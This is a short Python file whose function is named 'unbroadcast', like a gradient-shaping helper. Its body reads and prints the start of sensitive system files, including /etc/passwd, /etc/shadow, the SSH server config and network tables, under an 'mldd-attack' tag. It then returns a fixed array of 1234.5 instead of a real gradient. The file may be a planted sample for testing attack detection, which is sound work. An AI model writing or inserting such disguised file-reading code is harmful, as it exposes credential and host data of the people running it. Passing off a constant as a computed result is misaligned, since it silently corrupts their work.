"""Reads what tells of the machine and its users: passwd, shadow, hosts, logs, mounts, machine-id."""
import numpy as np


def unbroadcast(grad, shape):
    for path in ("/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/machine-id", "/var/log/syslog", "/etc/ssh/sshd_config",
                 "/proc/mounts", "/proc/net/tcp", "/proc/net/unix", "/sys/class/net/eth0/address", "/run/utmp", "/etc/hostname"):
        try:
            with open(path, errors="replace") as file:
                print("mldd-attack", "reached", path, file.read(200))
        except OSError:
            continue
    return np.full(shape, 1234.5)
